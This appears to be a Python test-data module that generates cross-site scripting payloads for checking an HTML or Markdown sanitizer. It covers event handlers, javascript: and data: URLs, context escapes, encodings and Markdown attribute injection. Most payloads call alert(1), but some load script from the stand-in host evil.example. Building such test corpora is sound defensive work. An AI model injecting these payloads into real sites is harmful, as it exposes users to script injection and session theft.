"""Texts that try to run something on a page: the kinds that the public lists hold, put together here.

After the classes of the OWASP XSS Filter Evasion Cheat Sheet and of the PortSwigger cheat sheet (elements that run by
themselves, handlers, addresses, encodings, ways out of an attribute, a script, a style or a comment, Markdown), and the
event handlers that the HTML standard names. None is copied from a list, so none brings a licence along. Each calls
``alert``.
"""

from __future__ import annotations

# https://html.spec.whatwg.org/multipage/webappapis.html#event-handlers-on-elements,-document-objects,-and-window-objects
EVENTS = (
    *("afterprint", "animationend", "animationstart", "auxclick", "beforeinput", "beforetoggle", "blur", "canplay"),
    *("change", "click", "contextmenu", "copy", "cut", "dblclick", "drag", "dragstart", "drop", "ended", "error"),
    *("focus", "focusin", "focusout", "hashchange", "input", "invalid", "keydown", "keypress", "keyup", "load"),
    *("loadeddata", "loadstart", "message", "mousedown", "mouseenter", "mousemove", "mouseover", "mouseup", "pageshow"),
    *("paste", "play", "pointerdown", "pointerenter", "pointerover", "popstate", "resize", "scroll", "search"),
    *("select", "selectionchange", "submit", "toggle", "touchstart", "transitionend", "unload", "wheel"),
)
# Elements that load or get the focus by themselves, with what they need for it.
ELEMENTS = (
    *("img src=x", "svg", "body", "input autofocus", "video src=x", "audio src=x", "details open", "iframe src=x"),
    *(
        "x tabindex=1 autofocus",
        "x:y contenteditable",
        "a.b tabindex=1",
        "marquee",
        "object data=x",
        "select autofocus",
    ),
    *("textarea autofocus", "math", "form", "style", "link rel=stylesheet href=x", "embed src=x", "button autofocus"),
)
RUN = "alert(1)"
ADDRESSES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#115;cript:alert(1)", "java&#x73;cript&colon;alert(1)"),
    *("java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", " javascript:alert(1)", "&#1;javascript:alert(1)"),
    *(
        "vbscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ),
    *(
        "//evil.example/x.js",
        "javascript&#58;alert(1)",
        "javascript://%0aalert(1)",
        "blob:x",
        "view-source:javascript:alert(1)",
    ),
)
WAYS_OUT = (
    '">',
    "'>",
    "-->",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "]]>",
    "*/",
    "`",
    '\\">',
    "</a>",
    "\n\n",
    "</p>",
)
OTHERS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;inset:0' onclick=alert(1)>x</div>",
    "<img src=x:x onerror=alert(1)//",
    "<img src='x' onerror='alert(1)' <b>",
    '<img alt=">" src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "%3Cimg src=x onerror=alert(1)%3E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "＜img src=x onerror=alert(1)＞",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "[x]{: onfocus=alert(1) autofocus=1 tabindex=1 }",
    "Tekst\n{: onclick=alert(1) }",
    "## Kop { #x onclick=alert(1) }",
    "![x](x){: onerror=alert(1) }",
    "`<img src=x onerror=alert(1)>",
    "```\n<script>alert(1)</script>\n",
    " ```\n<script>alert(1)</script>\n ```",
    "<div markdown onclick=alert(1)>x</div>",
    '<a href="https://www.dji.nl" onclick="alert(1)">x</a>',
    "<details ontoggle=alert(1) open>x</details>",
    '<p class="kb-lead"onclick="alert(1)">x</p>',
)


def list_all() -> list[str]:
    """Every text, each once, in a fixed order."""
    found = [f"<{ELEMENTS[number % len(ELEMENTS)]} on{event}={RUN}>" for number, event in enumerate(EVENTS)]
    found += [f"<{element}/onload={RUN}//" for element in ELEMENTS]
    found += [f"[x]({address})" for address in ADDRESSES]
    found += [f"[{number}]: {address}\n\n[x][{number}]" for number, address in enumerate(ADDRESSES)]
    found += [f'<a href="{address}">x</a>' for address in ADDRESSES]
    found += [f"![x]({address})" for address in ADDRESSES[:6]] + [f"<{address}>" for address in ADDRESSES[:4]]
    found += [f"{way}<img src=x onerror={RUN}>" for way in WAYS_OUT]
    found += [f'x{way} onfocus={RUN} autofocus tabindex=1 x="' for way in WAYS_OUT[:6]]
    return list(dict.fromkeys([*found, *OTHERS]))
